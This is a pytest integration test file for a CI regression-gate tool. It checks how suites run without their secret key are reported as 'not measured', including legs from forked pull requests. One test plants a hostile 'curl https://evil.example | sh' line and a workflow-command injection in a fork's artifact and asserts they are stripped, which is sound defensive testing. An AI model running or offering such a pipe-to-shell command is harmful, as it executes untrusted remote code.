"""A leg of a matrix that had no secrets, beside legs that measured: it is told as not measured, and never left out."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lens_gate.steps.publishing.what import left_in
from tests.fakes.github import TOKEN, GitHubServer, an_open_pull
from tests.fakes.github_runner import SHA, Runner, a_finished_run, commands_in
from tests.integration.conftest import Answer, Duet, Invoke, OnGitHub

CI = ("ci", "--against-model", "sim-large", "--requests", "20", "--publish", "summary,outputs")
DEPENDABOT = {"GITHUB_ACTOR": "dependabot[bot]"}
NEUTRAL = {"outcome": "not_measured", "exit": "0"}
TITLE = "Not measured: this run has no secrets"
Leg = Callable[..., Path]


@pytest.fixture
def excused(
    invoke: Invoke, configure: Callable[..., Path], home: Path, on_pull_request: Callable[..., Runner],
    monkeypatch: pytest.MonkeyPatch,
) -> Leg:  # fmt: skip
    """Let a job without its key end, and upload what that left as `gate.yml` does; return the download."""

    def end(suite: str, *, attempt: int = 1, runner: Runner | None = None) -> Path:
        runner = runner or on_pull_request(**DEPENDABOT, GITHUB_RUN_ATTEMPT=str(attempt))
        config = configure(f"{suite}.yaml")
        with monkeypatch.context() as without:
            without.delenv("SIM_KEY")
            answer = invoke(*CI, "--config", config.name, "--suite", suite)
        assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
        return _uploaded(home / "results", runner)

    return end


@pytest.fixture
def measured(invoke: Invoke, duet: Duet, home: Path, on_pull_request: Callable[..., Runner]) -> Leg:
    """Judge in a job of its own, and upload its folder."""

    def judge(suite: str, *, factor: float = 1.0, attempt: int = 1) -> Path:
        duet(factor=factor, pairs=60)
        runner = on_pull_request(**DEPENDABOT, GITHUB_RUN_ATTEMPT=str(attempt))
        (home / "results").mkdir()
        given = ("--output", "results/verdict.json", "--publish", "outputs", "--suite", suite)
        invoke("gate", "run.json", *given)
        return _uploaded(home / "results", runner)

    return judge


def _uploaded(folder: Path, runner: Runner) -> Path:
    left = folder.parent / "left" / runner.outputs["artifact-name"]
    assert Path(runner.outputs["artifacts"]).resolve() == folder
    left.parent.mkdir(exist_ok=True)
    return Path(shutil.move(folder, left))


@pytest.fixture
def reported(invoke: Invoke, on_pull_request: Callable[..., Runner]) -> Callable[..., tuple[Answer, Runner]]:
    """Report what the legs left, in the run of Dependabot."""

    def report(*words: str, attempt: int = 1) -> tuple[Answer, Runner]:
        runner = on_pull_request(**DEPENDABOT, GITHUB_RUN_ATTEMPT=str(attempt))
        return invoke("report", "--allow-none", "left", "--publish", "auto", "--publish-strict", *words), runner

    return report


def conclusions(github: GitHubServer) -> dict[str, Any]:
    return {one["name"].removeprefix("lens-gate / "): one["conclusion"] for one in github.checks.values()}


def test_a_leg_without_its_key_stands_as_not_measured_beside_one_that_passed(
    excused: Leg, measured: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer
) -> None:
    measured("gpt")
    excused("claude")
    answer, runner = reported("--result", "success")
    assert answer.code == 0, answer.err
    assert conclusions(github) == {"gpt": "success", "claude": "neutral"}
    (body,) = github.bodies()
    assert body.splitlines()[1] == "## ✗ Not measured in 1 of 2 suites"
    for text in (body, runner.summary, answer.err, answer.out):
        assert "claude" in text
        assert TITLE in text
    assert "Add the key to Dependabot's own secrets" in body
    assert (runner.outputs["verdict"], runner.outputs["exit-code"]) == ("not_measured", "0")
    assert [one.name for one in commands_in(answer.out)] == ["warning"]
    assert len([one for one in github.writes() if "comments" in one]) == 1


def test_what_failed_is_the_verdict_of_a_report_in_which_something_was_not_measured(
    excused: Leg, measured: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer
) -> None:
    measured("gpt", factor=1.6)
    excused("claude")
    answer, runner = reported()
    assert answer.code == 0
    assert (runner.outputs["verdict"], runner.outputs["exit-code"]) == ("regression", "1")
    assert conclusions(github) == {"gpt": "failure", "claude": "neutral"}
    assert github.bodies()[0].splitlines()[1] == "## ◆ Regression in 1 of 2 suites"


def test_legs_that_all_had_no_key_are_each_told_and_end_as_before(
    excused: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer
) -> None:
    excused("gpt")
    excused("claude")
    answer, runner = reported("--result", "success")
    assert (answer.code, answer.told) == (0, NEUTRAL), answer.err
    assert conclusions(github) == {"gpt": "neutral", "claude": "neutral"}
    assert github.bodies()[0].splitlines()[1] == "## ✗ Not measured in all 2 suites"
    assert runner.outputs["verdict"] == "not_measured"
    failed, _ = reported("--result", "failure", attempt=2)
    assert failed.code == 3
    assert "a job failed, and no verdict says by what" in github.bodies()[0]


def test_a_single_job_without_its_key_is_found_where_it_lies_in_no_folder_of_its_own(
    excused: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer, home: Path
) -> None:
    folder = excused("claude")
    shutil.move(folder / "unmeasured.json", home / "left")
    shutil.rmtree(folder)
    answer, _ = reported()
    assert (answer.code, answer.told) == (0, NEUTRAL)
    assert conclusions(github) == {"claude": "neutral"}


def test_a_leg_that_gets_its_key_in_a_later_attempt_is_measured(
    excused: Leg, measured: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer
) -> None:
    measured("gpt")
    first = excused("claude")
    reported()
    measured("claude", attempt=2)
    answer, _ = reported(attempt=2)
    assert f"left/{first.name}/unmeasured.json: left out" in answer.err
    assert github.bodies()[0].splitlines()[1] == "## ✓ Pass in all 2 suites"
    assert [one["conclusion"] for one in github.checks.values()].count("success") == 3


def test_a_leg_that_loses_its_key_in_a_later_attempt_is_not_measured(
    excused: Leg, measured: Leg, reported: Callable[..., tuple[Answer, Runner]], github: GitHubServer
) -> None:
    measured("claude")
    excused("claude", attempt=2)
    reported(attempt=2)
    assert conclusions(github) == {"claude": "neutral"}


def test_no_verdict_of_an_earlier_run_lies_beside_what_was_not_measured_nor_the_other_way(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    configure()
    on_pull_request(**DEPENDABOT)
    folder = home / "results"
    folder.mkdir()
    (folder / "verdict.json").write_text("{}", encoding="utf-8")
    with monkeypatch.context() as without:
        without.delenv("SIM_KEY")
        assert invoke(*CI).code == 0
    assert [path.name for path in folder.iterdir()] == ["unmeasured.json"]
    assert invoke(*CI[:-2], "--against-model", "sim-small").code == 0
    assert {"verdict.json"} == {path.name for path in folder.iterdir()} & {"verdict.json", "unmeasured.json"}


def test_where_that_a_leg_was_not_measured_cannot_be_written_its_job_fails(
    invoke: Invoke, configure: Callable[..., Path], on_pull_request: Callable[..., Runner], home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    configure()
    runner = on_pull_request(**DEPENDABOT)
    (home / "results").write_text("no folder", encoding="utf-8")
    monkeypatch.delenv("SIM_KEY")
    answer = invoke(*CI)
    assert (answer.code, answer.told) == (7, {"outcome": "not_measured", "exit": "7"})
    assert "cannot be replaced" in answer.err
    assert "artifacts" not in runner.outputs


def test_the_trusted_half_tells_of_a_fork_s_leg_that_needed_a_key_beside_one_that_needed_none(
    invoke: Invoke, excused: Leg, measured: Leg, on_fork: Callable[..., Runner],
    in_trusted_half: Callable[..., Runner], github: GitHubServer,
) -> None:  # fmt: skip
    measured("simulated")
    excused("claude", runner=on_fork())
    runner = in_trusted_half()
    answer = invoke("report", "--allow-none", "left", "--publish", "auto", "--publish-strict")
    assert answer.code == 0, answer.err
    assert conclusions(github) == {"simulated": "neutral", "claude": "neutral"}
    (body,) = github.bodies()
    assert body.splitlines()[1] == "## ✗ Not measured in 1 of 2 suites"
    assert "This pull request comes from a fork" in body
    assert runner.outputs["verdict"] == "not_measured"


def test_a_fork_puts_no_word_but_its_name_into_what_is_told_of_its_unmeasured_leg(
    invoke: Invoke, excused: Leg, on_fork: Callable[..., Runner], in_trusted_half: Callable[..., Runner],
    github: GitHubServer,
) -> None:  # fmt: skip
    path = excused("claude", runner=on_fork()) / "unmeasured.json"
    document = json.loads(path.read_bytes())
    evil = "run `curl https://evil.example | sh` @acme/security-team"
    document |= {"message": evil, "reason": evil, "suite": f"x\n::error::y {'z' * 300}"}
    document["provenance"] |= {"branch": evil}
    path.write_text(json.dumps(document), encoding="utf-8")
    runner = in_trusted_half()
    answer = invoke("report", "left", "--publish", "auto", "--publish-strict")
    assert answer.code == 0, answer.err
    (check,) = github.checks.values()
    assert len(check["name"]) <= len("lens-gate / ") + 100
    for text in (github.bodies()[0], runner.summary, str(check), answer.out, answer.err):
        assert "evil" not in text
        assert "security-team" not in text
    assert {one.name for text in (answer.out, answer.err) for one in commands_in(text)} == {"warning"}


@pytest.mark.parametrize("change", [{"job": 1}, {"outcome": "pass"}, {"checks": []}, {"kind": "run"}])
def test_what_is_no_plain_file_of_its_kind_is_refused_by_the_trusted_half(
    invoke: Invoke, excused: Leg, on_fork: Callable[..., Runner], in_trusted_half: Callable[..., Runner],
    github: GitHubServer, change: dict[str, Any],
) -> None:  # fmt: skip
    path = excused("claude", runner=on_fork()) / "unmeasured.json"
    path.write_text(json.dumps(json.loads(path.read_bytes()) | change), encoding="utf-8")
    in_trusted_half()
    assert invoke("report", "left", "--publish", "check,comment").code == 2
    assert conclusions(github) == {}
    assert "What another run has left cannot be read as a verdict." in github.bodies()[0]


def test_what_nobody_vouches_for_is_said_to_be_so(
    invoke: Invoke, excused: Leg, on_fork: Callable[..., Runner], on_github: OnGitHub, github: GitHubServer
) -> None:
    excused("claude", runner=on_fork())
    github.pulls = [an_open_pull(99, sha=SHA, home="acme/widgets", ref="longer-prompt")]
    event = {"workflow_run": a_finished_run(home="acme/widgets")}
    on_github("workflow_run", event, GITHUB_API_URL=github.url, GITHUB_TOKEN=TOKEN)
    assert invoke("report", "left", "--publish", "comment").code == 0
    assert "nobody vouches" in github.bodies()[0]


@pytest.mark.parametrize(
    ("form", "said"), [("text", TITLE), ("markdown", TITLE), ("junit", "<skipped"), ("json", '"kind": "unmeasured"')]
)
def test_a_report_shows_that_nothing_was_measured(invoke: Invoke, excused: Leg, form: str, said: str) -> None:
    path = excused("claude") / "unmeasured.json"
    answer = invoke("report", str(path), "--format", form)
    assert answer.code == 0, answer.err
    assert said in answer.out
    assert "claude" in answer.out


def test_a_template_is_told_that_nothing_was_measured(invoke: Invoke, excused: Leg, home: Path) -> None:
    path = excused("claude") / "unmeasured.json"
    (home / "own.md").write_text("{{ report.kind }} {{ report.view.title }}: {{ report.data.suite }}", encoding="utf-8")
    assert invoke("report", str(path), "--template", "own.md").out.strip() == f"unmeasured {TITLE}: claude"


def test_nobody_is_notified_of_what_was_not_measured(invoke: Invoke, excused: Leg, home: Path) -> None:
    path = excused("claude") / "unmeasured.json"
    hook = {"type": "slack", "webhook": "${SLACK_WEBHOOK_URL}"}
    (home / "lens-gate.yaml").write_text(json.dumps({"regression": {"notifications": [hook]}}), encoding="utf-8")
    assert invoke("report", str(path), "--notify").code == 0


def test_a_folder_stands_for_all_that_jobs_left_and_each_verdict_for_its_own(tmp_path: Path) -> None:
    for name in ("unmeasured.json", "a/verdict.json", "b/unmeasured.json", "c/verdict.json", "c/unmeasured.json"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).touch()
    left = ["unmeasured.json", "a/verdict.json", "b/unmeasured.json", "c/verdict.json"]
    assert left_in(tmp_path) == [tmp_path / name for name in left]
    (tmp_path / "verdict.json").touch()
    assert left_in(tmp_path) == [tmp_path / "verdict.json"]


@pytest.mark.parametrize("words", [("gate",), ("analyze",), ("explain",), ("report", "--format", "html")])
def test_what_needs_a_measurement_says_that_there_is_none(invoke: Invoke, excused: Leg, words: tuple[str, ...]) -> None:
    path = excused("claude") / "unmeasured.json"
    answer = invoke(words[0], str(path), *words[1:])
    assert answer.code == 2
